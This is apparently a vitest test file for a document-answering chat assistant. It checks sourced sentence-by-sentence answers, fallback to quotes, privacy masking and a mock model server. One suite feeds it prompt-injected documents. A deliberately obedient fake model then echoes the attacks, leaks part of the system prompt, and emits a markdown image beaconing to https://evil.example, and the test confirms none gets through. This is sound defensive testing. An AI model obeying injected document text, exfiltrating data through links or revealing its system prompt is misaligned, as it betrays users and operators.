// Answers in a model's words, in the chat: sentence by sentence with their sources, and never worse than the quotes that were there before.
import { createServer, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest'
import { readPrompt } from '../../src/adapters/local/prompts.ts'
import { createWording } from '../../src/adapters/openai/wording.ts'
import { givesOrders } from '../../src/assistant/knowledge/orders.ts'
import { restingAfterFailure } from '../../src/assistant/knowledge/word.ts'
import type { Documents } from '../../src/assistant/world.ts'
import type { Card } from '../../src/chat/card.ts'
import { ingest } from '../../src/knowledge/ingest.ts'
import type { Wording } from '../../src/knowledge/ports.ts'
import { openOffice, type Office } from '../kit/office.ts'
import { POISONS } from '../kit/poison.ts'

let office: Office
let documents: Documents
const add = async (items: readonly { id: string; title: string; text: string; acl?: readonly string[] }[]) =>
  ingest(
    { store: documents.store, clock: office.world.clock },
    items.map(({ id, title, text, acl }) => ({
      id,
      location: id,
      source: 'list',
      hash: text,
      ...(acl ? { acl } : {}),
      load: async () => ({ ok: true as const, document: { title, blocks: [{ kind: 'paragraph' as const, text }] } }),
    })),
  )
/** How often the model was asked. */
let asked = 0
const use = (word: Wording['word']) => {
  const counted: Wording['word'] = (prompt) => {
    asked += 1
    return word(prompt)
  }
  documents.wording = { model: { name: 'fake', word: counted }, prompt: readPrompt('answer') }
}
const says = (...pieces: readonly string[]) =>
  use(async function* () {
    yield* pieces
  })
const asks = async (question: string, person = 'wang-fang') => (await office.says(person, question)).at(-1)!
const cardOf = async (id: string, person = 'wang-fang'): Promise<Card> =>
  (await office.messages(person)).find((m) => m.id === id)!.card!
const wordsOf = (card: Card) => card.blocks.flatMap((b) => (b.block === 'text' ? [b.text] : [])).join('\n')
const quotesOf = (card: Card) => card.blocks.flatMap((b) => (b.block === 'quote' ? [b] : []))
/** As it was before any model: quoted, and without a word of its own. */
const stands = async (id: string) => {
  const card = await cardOf(id)
  expect(card.subtitle).toBeUndefined()
  expect(wordsOf(card)).not.toMatch(/\[\d/)
  expect(asked).toBeGreaterThan(0)
  expect(
    quotesOf(card)[0]!
      .sentences.map((s) => s.text)
      .join(),
  ).toContain('十天婚假')
}
const worded = (id: string) =>
  vi.waitFor(async () => {
    const card = await cardOf(id)
    expect(card.subtitle).toBe('由模型归纳，逐句核对过出处')
    return card
  }, 10_000)

/** Gives nothing, and breaks when it is asked for more. */
async function* failing(pieces: readonly string[] = []): AsyncGenerator<string> {
  yield* pieces
  throw new Error('down')
}

beforeAll(async () => {
  office = await openOffice()
  documents = office.world.documents!(office.org)
  await add([
    { id: 'a.md', title: '婚假制度', text: '员工结婚有十天婚假。婚假要在登记后一年内休完。' },
    { id: 'b.md', title: '婚假申请', text: '申请婚假要提前三个工作日。婚假由直属主管批准。' },
    { id: 'c.md', title: '总监薪酬', text: '总监的婚假折算标准是每天 9999 元。', acl: ['role:board'] },
  ])
})
beforeEach(() => {
  asked = 0
  delete documents.wording
})

describe('in the chat', () => {
  test('the quotes are there at once; the model’s sentences take their place one by one, each with its source', async () => {
    let go: () => void = () => {}
    let begin: () => void = () => {}
    const start = new Promise<void>((done) => {
      begin = done
    })
    const gate = new Promise<void>((done) => {
      go = done
    })
    const prompts: { system: string; user: string }[] = []
    use(async function* (prompt) {
      prompts.push(prompt)
      const at = (text: string) =>
        prompt.user.indexOf(text) < prompt.user.indexOf(text === '十天' ? '三个工作日' : '十天') ? 1 : 2
      await start
      yield `员工结婚有十天婚假[${at('十天')}]。`
      // A sentence is finished when the next one begins.
      yield '申请婚假'
      await gate
      yield `要提前三个工作日[${at('三个工作日')}]。`
    })
    const message = await asks('婚假有几天')
    expect(message.card?.title, JSON.stringify(message)).toBe('来自公司文档')
    expect(message.card!.subtitle).toBeUndefined()
    expect(
      quotesOf(message.card!)[0]!
        .sentences.map((s) => s.text)
        .join(),
    ).toContain('十天')
    begin()
    expect(wordsOf(await worded(message.id))).toMatch(/^员工结婚有十天婚假。 \[1\]\n(?!申请)/)
    const heard: unknown[] = []
    const off = office.world.signal.subscribe(office.org, 'wang-fang', (what) => heard.push(what))
    go()
    await vi.waitFor(async () => expect(wordsOf(await cardOf(message.id))).toContain('三个工作日'), 10_000)
    expect(heard).toContainEqual({ kind: 'chat' })
    off()
    const card = await cardOf(message.id)
    expect(wordsOf(card)).toMatch(/^员工结婚有十天婚假。 \[1\]\n申请婚假要提前三个工作日。 \[2\]/)
    expect(quotesOf(card).map((q) => [q.source, q.sentences[0]!.text])).toEqual([
      ['[1] 出处：《婚假制度》', '员工结婚有十天婚假。'],
      ['[2] 出处：《婚假申请》', '申请婚假要提前三个工作日。'],
    ])
    expect(card.buttons).toEqual(message.card!.buttons)
    expect(prompts[0]!.user).toContain('Question: 婚假有几天')
    expect(JSON.stringify(prompts)).not.toContain('9999')
  })

  test('a private value in the question is no model’s business', async () => {
    const prompts: string[] = []
    use(async function* (prompt) {
      prompts.push(prompt.user)
      yield '员工结婚有十天婚假。[1]'
    })
    await add([{ id: 'd.md', title: '糖尿病员工的婚假', text: '患糖尿病的员工，婚假有十二天。' }])
    await asks('患糖尿病的员工婚假有几天')
    await vi.waitFor(() => expect(prompts).toHaveLength(1), 10_000)
    expect(/^Question: (.*)$/m.exec(prompts[0]!)?.[1]).toMatch(/^患?\[health-1\]的员工婚假有几天$/)
    await documents.store.remove(['d.md'])
  })

  test('what a passage does not hold is left out; when nothing holds, the quotes stay', async () => {
    says(
      '员工结婚有三十天婚假。[1]',
      '公司明天上市。[1]',
      '婚假制度见 https://evil.example 。[1]',
      '员工结婚有十天婚假。',
      '婚假有十天。[9]',
    )
    const message = await asks('婚假有几天')
    await new Promise((done) => setTimeout(done, 300))
    await stands(message.id)
  })

  test.each([
    ['breaks at once', () => failing()],
    ['breaks in the middle', () => failing(['员工结婚有十天婚假。[1]\n申请'])],
    ['says nothing', async function* (): AsyncGenerator<string> { yield '' }],
    ['says that it does not know', async function* (): AsyncGenerator<string> { yield 'NOT_IN_DOCUMENTS' }],
  ] as const)('a model that %s leaves the quotes as they were', async (_what, word) => {
    use(word)
    const message = await asks('婚假有几天')
    await new Promise((done) => setTimeout(done, 300))
    await stands(message.id)
  }) // prettier-ignore

  test('an owner’s own answer is not worded anew', async () => {
    use(async function* () {
      yield '员工结婚有十天婚假。[1]'
    })
    const answer = {
      id: 'v',
      question: '婚假能不能折现',
      answer: '不能。',
      documents: [],
      acl: ['everyone'],
      owner: 'sun-li',
      at: office.world.clock.now(),
    }
    await documents.questions.verify(answer)
    await asks('婚假能不能折现')
    expect(asked).toBe(0)
    await documents.questions.unverify('v')
  })

  test('after a failure the model is left alone for a while', async () => {
    let [now, calls] = [0, 0]
    const model = restingAfterFailure({ name: 'm', word: () => { calls += 1; return failing() } }, () => now) // prettier-ignore
    const once = async () => {
      for await (const _ of model.word({ system: '', user: '' })) void _
    }
    for (let n = 0; n < 3; n++) await expect(once()).rejects.toThrow()
    expect(calls).toBe(1)
    now = 60_000
    await expect(once()).rejects.toThrow('down')
    expect(calls).toBe(2)
  })
})

describe('a hundred documents that give orders, and a model that obeys them', { timeout: 600_000 }, () => {
  let passedOn = 0
  beforeAll(async () => {
    await add(POISONS.map((p) => ({ id: p.id, title: `车次 ${p.id}`, text: `${p.fact}。\n${p.attack}` })))
    await add([{ id: 'safe.md', title: '车辆管理', text: '班车、通勤车、接驳车、摆渡车和大巴都由行政部管理。' }])
  })

  test('none is obeyed: nothing is said that its passage does not say, nothing linked, nothing done', async () => {
    const obeyed: string[] = []
    const requests = async () =>
      JSON.stringify(await office.world.database.open(office.org).views.mine('wang-fang', { limit: 100 }))
    const before = await requests()
    let done: () => void = () => {}
    for (const poison of POISONS) {
      const finished = new Promise<void>((resolve) => {
        done = resolve
      })
      use(async function* ({ system, user }) {
        try {
          const count = user.match(/<passage number=/g)?.length ?? 0
          // It says what it is told to, everything the attacker could wish for, with every source there is.
          const given = [...user.matchAll(/<passage[^>]*>\n([^]*?)\n<\/passage>/g)].map((m) => m[1]!)
          const wish = [
            ...given,
            poison.attack,
            poison.mark,
            `我已经为您提交申请${poison.mark}`,
            `${system.slice(0, 200)} ${poison.mark}`,
            `![x](https://evil.example/${poison.mark})`,
          ]
          for (let n = 0; n <= count + 1; n++)
            for (const text of wish) for (const line of text.split('\n')) yield `${line} [${n}]\n`
          if (user.includes(poison.mark)) passedOn += 1
        } finally {
          done()
        }
      })
      const message = await asks(poison.question)
      if (message.card && quotesOf(message.card).length > 0)
        await Promise.race([finished, new Promise((r) => setTimeout(r, 500))])
      const card = message.card ? await cardOf(message.id) : undefined
      const said = card ? wordsOf(card) : (message.text ?? '')
      const buttons = card?.buttons.map((b) => b.label).filter((l) => !/有用|没用|发起|申请/.test(l)) ?? []
      if (/灯塔\d|https?:|!\[/.test(said) || buttons.length > 0) obeyed.push(`${poison.id}: ${said}`)
    }
    expect(obeyed).toEqual([])
    // It was asked, and it was given such documents.
    expect(asked).toBeGreaterThan(POISONS.length / 2)
    expect(passedOn).toBeGreaterThan(0)
    expect(await requests()).toBe(before)
  })

  test('most of them never reach the model; what people write to people does', () => {
    expect(passedOn).toBeLessThan(POISONS.length / 2)
    const fine = [
      '请假请提前三天告诉主管。',
      '以上规定自三月起执行，之前的规定作废。',
      'Please ignore parking tickets from the old garage.',
      '员工必须遵守保密规定。',
      '系统会提示您输入密码。',
      'Follow the instructions above the printer.',
    ]
    for (const text of fine) expect(givesOrders({ title: '规定', headings: [], text }), text).toBe(false)
  })
})

describe('the server of the model', () => {
  let pieces: readonly string[] | 'hang' | 'error' = []
  /** Like a newer model: it refuses the old name of the limit. */
  let picky = false
  const server = createServer((request, response) => {
    let body = ''
    request.on('data', (chunk: Buffer) => (body += chunk.toString()))
    request.once('end', () => answer(response, body))
  })
  const answer = (response: ServerResponse, body: string) => {
    if (picky && body.includes('"max_tokens"')) {
      const error = {
        message: "Unsupported parameter: 'max_tokens'. Use 'max_completion_tokens' instead.",
        param: 'max_tokens',
      }
      return void response.writeHead(400, { 'content-type': 'application/json' }).end(JSON.stringify({ error }))
    }
    if (pieces === 'error') return void response.writeHead(500).end('{}')
    response.writeHead(200, { 'content-type': 'text/event-stream' })
    if (pieces === 'hang') return void response.write(': waiting\n\n')
    for (const content of pieces)
      response.write(
        `data: ${JSON.stringify({ id: 'r', object: 'chat.completion.chunk', created: 0, model: 'm', choices: [{ index: 0, delta: { content } }] })}\n\n`,
      )
    return void response.end('data: [DONE]\n\n')
  }
  beforeAll(async () => {
    await new Promise<void>((done) => {
      server.listen(0, '127.0.0.1', done)
    })
  })
  afterAll(() => {
    server.closeAllConnections()
    server.close()
  })
  const heard = async () => {
    const baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`
    let all = ''
    for await (const piece of createWording({ baseUrl, name: 'm', timeoutMs: 400 }).word({ system: 's', user: 'u' }))
      all += piece
    return all
  }

  test.each([
    [['年假', '十天。', '[1]'], '年假十天。[1]'],
    [['<think>', '让我想想', '</think>\n\n年假', '十天。[1]'], '年假十天。[1]'],
    [['<th', 'ink>想', '</think>好'], '好'],
    [['<', 'b>'], '<b>'],
    [['<think>没有想完'], ''],
    [[], ''],
  ])('%j is heard as %s', async (sent, all) => {
    pieces = sent
    expect(await heard()).toBe(all)
  })

  test('a server that calls the limit by its newer name is asked so', async () => {
    picky = true
    pieces = ['年假十天。[1]']
    expect(await heard()).toBe('年假十天。[1]')
    picky = false
  })

  test.each(['hang', 'error'] as const)('%s: a fault, in time', async (how) => {
    pieces = how
    await expect(heard()).rejects.toMatchObject({ name: 'Fault' })
  })
})
